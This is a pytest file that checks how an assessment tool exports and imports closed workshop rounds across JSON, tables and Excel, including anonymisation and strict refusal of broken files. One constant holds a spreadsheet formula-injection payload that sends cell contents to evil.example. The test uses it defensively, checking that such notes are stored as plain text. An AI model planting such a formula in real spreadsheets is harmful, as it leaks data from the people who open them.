"""Workshop rounds travel with the assessment: the portable file and the tables carry the closed rounds
(who answered what, the consensus and its dissent), and an import checks them as strictly as the rest."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select

from access.accounts import Accounts, SignInRefused
from access.roles import Actor
from questionnaire.loader import load_framework
from questionnaire.model import Framework
from scoring.records import RecordedAnswer
from storage.errors import ImportRefused, StorageError, StorageUnavailable
from storage.migrate import upgrade_database
from storage.rounds import Dissent, Rounds
from storage.store import Store
from storage.tables import accounts, answers, assessments, round_answers, round_decisions, rounds
from storage.transfer import apply_import, export_json, export_tables, export_xlsx, plan_import
from tests.files import riverton_workshop, signed

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
GUEST_PASSWORD = "a partner's long passphrase"


def _fresh(tmp_path: Path, frameworks: dict[str, Framework]) -> Store:
    url = f"sqlite:///{tmp_path / 'elsewhere.db'}"
    upgrade_database(url)
    return Store.open(url, frameworks)


def _counts(store: Store) -> tuple[int, ...]:
    with store.engine.connect() as conn:
        return tuple(
            conn.execute(select(func.count()).select_from(t)).scalar_one()
            for t in (assessments, answers, rounds, round_answers, round_decisions, accounts)
        )


def _closed_round(store: Store, team: dict[str, Any], names_shown: bool = False) -> int:
    """A closed blind round on theme T1: Ana, Ben and a guest from the youth centre answer apart; the
    consensus on Q1.1 keeps Ana's dissent."""
    found = Rounds(store)
    cora = team["Cora"]
    respondents = {team["Ana"].account_id: "Social services", team["Ben"].account_id: "Police"}
    made = found.open_round(team["draft"], respondents, cora, themes=["T1"], names_shown=names_shown)
    token = found.invite_guest(made.id, "gus@youth-centre.example", "Gus", "Youth centre", cora)
    gus = Accounts(store).actor(Accounts(store).accept(token, GUEST_PASSWORD).id)
    found.answer(made.id, "Q1.1", "level", 1, HOSTILE, team["Ana"])
    found.answer(made.id, "Q1.1", "level", 3, "", team["Ben"])
    found.answer(made.id, "Q1.2", "not_my_area", None, "", team["Ben"])
    found.answer(made.id, "Q1.1", "dont_know", None, "Ask the mayor's office", gus)
    found.close(made.id, cora)
    found.decide(
        made.id,
        RecordedAnswer(question_id="Q1.1", level=2, note="Agreed at the workshop"),
        "Most see it in use, though not everywhere",
        [Dissent("Social services", 1, "The referral route exists on paper only")],
        cora,
    )
    return made.id


def test_a_closed_round_travels_in_the_file_and_comes_back_byte_for_byte(
    store: Store, team: dict[str, Any], tmp_path: Path, frameworks: dict[str, Framework]
) -> None:
    _closed_round(store, team)
    exported = export_json(store, team["draft"], team["Cora"])
    content = json.loads(exported)
    assert content["format_version"] == 2
    (carried,) = content["rounds"]
    assert [(r["name"], r["group"], r["guest"]) for r in carried["respondents"]] == [
        ("Ana", "Social services", False),
        ("Ben", "Police", False),
        ("Gus", "Youth centre", True),
    ]
    assert "youth-centre.example" not in exported.decode()  # no address leaves the city
    assert [(a["respondent"], a["question_id"], a["level"]) for a in carried["answers"]] == [
        (1, "Q1.1", 1),
        (2, "Q1.1", 3),
        (3, "Q1.1", None),
        (2, "Q1.2", None),
    ]
    assert carried["decisions"][0]["dissents"] == [
        {"holder": "Social services", "level": 1, "note": "The referral route exists on paper only"}
    ]

    elsewhere = _fresh(tmp_path, frameworks)
    plan = plan_import(elsewhere, exported)
    assert "1 closed workshop round(s) with 3 respondent(s)" in " ".join(plan.describe())
    imported = apply_import(elsewhere, plan, "Importer")
    assert export_json(elsewhere, imported.id or 0) == exported

    (round_,) = Rounds(elsewhere).portable(imported.id or 0)
    assert round_.closed_at is not None and len(round_.answers) == 4
    people = Accounts(elsewhere)
    with elsewhere.engine.connect() as conn:
        stand_ins = conn.execute(select(accounts).where(accounts.c.stands_in.is_(True))).all()
    assert sorted(a.name for a in stand_ins) == ["Ana", "Ben", "Gus"]
    assert all(a.password_hash is None and a.disabled_at is not None for a in stand_ins)
    admin = people.actor(people.add("admin@elsewhere.example", "Admin", "Set-up", network_admin=True).id)
    assert [a.name for a in people.all(admin)] == ["Admin"]  # stand-ins are no one's accounts
    with pytest.raises(SignInRefused):
        people.sign_in(stand_ins[0].email, GUEST_PASSWORD, "10.0.0.9")


def test_an_open_round_stays_out_of_the_file_which_is_then_version_one(store: Store, team: dict[str, Any]) -> None:
    found = Rounds(store)
    made = found.open_round(team["draft"], {team["Ana"].account_id: None, team["Ben"].account_id: None}, team["Cora"])
    found.answer(made.id, "Q1.1", "level", 4, "A secret until the round closes", team["Ana"])
    exported = export_json(store, team["draft"], team["Cora"])
    content = json.loads(exported)
    assert content["format_version"] == 1 and "rounds" not in content
    assert "A secret" not in exported.decode()
    assert export_tables(store, team["draft"], team["Cora"])["workshop_answers"].empty


def test_a_viewer_exports_respondents_by_number_where_names_are_not_shown(store: Store, team: dict[str, Any]) -> None:
    _closed_round(store, team, names_shown=False)
    viewer: Actor = team["Vic"]
    carried = json.loads(export_json(store, team["draft"], viewer))["rounds"][0]
    assert [r["name"] for r in carried["respondents"]] == ["Respondent 1", "Respondent 2", "Respondent 3"]
    table = export_tables(store, team["draft"], viewer)["workshop_answers"]
    assert set(table["respondent"]) == {"Respondent 1", "Respondent 2", "Respondent 3"}
    assert not {"Ana", "Ben", "Gus"} & set(export_tables(store, team["draft"], viewer)["workshop_consensus"].stack())


def test_the_workbook_has_the_workshop_sheets_with_formula_like_notes_kept_as_text(
    store: Store, team: dict[str, Any]
) -> None:
    _closed_round(store, team)
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(store, team["draft"], team["Cora"])))
    assert book.sheetnames[-3:] == ["Workshop answers", "Workshop consensus", "Actions"]
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    consensus = [[c.value for c in row] for row in book["Workshop consensus"].iter_rows()]
    header, first = consensus[0], consensus[1]
    assert first[header.index("dissent")] == "Social services: level 1. The referral route exists on paper only"
    assert first[header.index("level")] == 2
    noted = [c for c in cells if c.value == HOSTILE]  # exactly as typed, and typed as text
    assert noted and all(c.data_type == "s" and c.quotePrefix for c in noted)


def _with_rounds(change: Callable[[dict[str, Any]], None], store: Store, team: dict[str, Any]) -> bytes:
    _closed_round(store, team)
    content = json.loads(export_json(store, team["draft"], team["Cora"]))
    content.pop("integrity")
    change(content)
    return signed(content)


def _round(content: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = content["rounds"][0]
    return found


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda c: c.update(format_version=1), "carried only by format version 2"),
        (lambda c: _round(c)["answers"][0].update(respondent=9), "respondent 9, who is not one of"),
        (lambda c: _round(c)["answers"].append(_round(c)["answers"][0]), "answers Q1.1 more than once"),
        (lambda c: _round(c)["answers"][0].update(status="dont_know"), "status 'level' has a level"),
        (lambda c: _round(c)["answers"][0].update(question_id="Q2.1"), "Q2.1 is not one of the round's questions"),
        (lambda c: _round(c)["answers"][0].update(question_id="Q99.9"), "Q99.9 is not one of the round's"),
        (lambda c: _round(c).update(themes=["T99"]), "theme(s) T99"),
        (lambda c: _round(c)["decisions"].append(_round(c)["decisions"][0]), "more than one consensus"),
        (lambda c: _round(c).update(closed_at="2001-01-01T00:00:00Z"), "closes (closed_at) before it opened"),
        (lambda c: _round(c).update(respondents=_round(c)["respondents"][:1]), "rounds.0.respondents"),
        (lambda c: _round(c)["respondents"][1].update(position=1), "same position"),
        (lambda c: _round(c)["respondents"][0].update(email="ana@riverton.example"), "not part of this format"),
        (lambda c: c["rounds"].append(_round(c)), "two rounds have the same number"),
    ],
)
def test_a_file_with_a_broken_round_is_refused_whole_and_writes_nothing(
    store: Store,
    team: dict[str, Any],
    tmp_path: Path,
    frameworks: dict[str, Framework],
    change: Callable[[dict[str, Any]], None],
    expected: str,
) -> None:
    data = _with_rounds(change, store, team)
    elsewhere = _fresh(tmp_path, frameworks)
    before = _counts(elsewhere)
    with pytest.raises(ImportRefused) as caught:
        apply_import(elsewhere, plan_import(elsewhere, data), "Importer")
    assert expected in str(caught.value)
    assert _counts(elsewhere) == before


def test_a_failure_while_the_rounds_are_written_leaves_no_assessment_behind(
    store: Store, team: dict[str, Any], tmp_path: Path, frameworks: dict[str, Framework]
) -> None:
    _closed_round(store, team)
    elsewhere = _fresh(tmp_path, frameworks)
    plan = plan_import(elsewhere, export_json(store, team["draft"], team["Cora"]))
    broken = plan.rounds[0].model_copy(update={"number": None})  # the database refuses a round without a number
    before = _counts(elsewhere)
    with pytest.raises(StorageUnavailable, match="Nothing was imported"):
        apply_import(elsewhere, replace(plan, rounds=[broken]), "Importer")
    assert _counts(elsewhere) == before and elsewhere.cities() == []


def test_rounds_answered_on_a_framework_version_no_longer_installed_are_left_behind_and_said_so(
    store: Store,
) -> None:
    v1, v2 = (load_framework(FIXTURES / "frameworks" / name) for name in ("mini-v1", "mini-v2"))
    mini = Store(store.engine, {v2.id: v2})
    content = riverton_workshop()
    content["framework"] = {"id": v1.id, "version": v1.version}
    content["assessment"]["targets"] = {}
    content["answers"] = [{**content["answers"][0], "question_id": "S.1", "level": 3}]
    plan = plan_import(mini, signed(content))
    assert plan.rounds == [] and plan.rounds_left_behind == 1
    assert f"answered against framework version {v1.version}, which is not installed" in " ".join(plan.describe())
    record = apply_import(mini, plan, "Ana")
    assert Rounds(mini).portable(record.id or 0) == []


def test_names_and_groups_on_several_lines_are_exported_on_one_and_control_characters_are_refused(
    store: Store, team: dict[str, Any]
) -> None:
    people, found = Accounts(store), Rounds(store)
    odd = people.add("odd@riverton.example", "Ana\nde la\x07 Cruz", "Set-up")
    people.add_member(odd.id, team["city"], team["Ana"].roles[team["city"]], "Set-up")
    cora = team["Cora"]
    made = found.open_round(
        team["draft"], {odd.id: "Social\tservices\n", team["Ben"].account_id: None}, cora, names_shown=True
    )
    with pytest.raises(StorageError, match="control character"):
        found.answer(made.id, "Q1.1", "level", 2, "bell \x07", people.actor(odd.id))
    found.answer(made.id, "Q1.1", "level", 2, "tab\tand\nlines are fine", people.actor(odd.id))
    found.close(made.id, cora)
    with pytest.raises(StorageError, match="control character"):
        found.decide(made.id, RecordedAnswer(question_id="Q1.1", level=2), "ok \x1b[31m", [], cora)
    found.decide(made.id, RecordedAnswer(question_id="Q1.1", level=2), "", [Dissent("Social\nservices", 1, "")], cora)
    (carried,) = json.loads(export_json(store, team["draft"], cora))["rounds"]
    assert carried["respondents"][1] == {
        "position": 2,
        "name": "Ana de la Cruz",
        "group": "Social services",
        "guest": False,
    }
    assert carried["answers"][0]["note"] == "tab\tand\nlines are fine"
    assert carried["decisions"][0]["dissents"][0]["holder"] == "Social services"
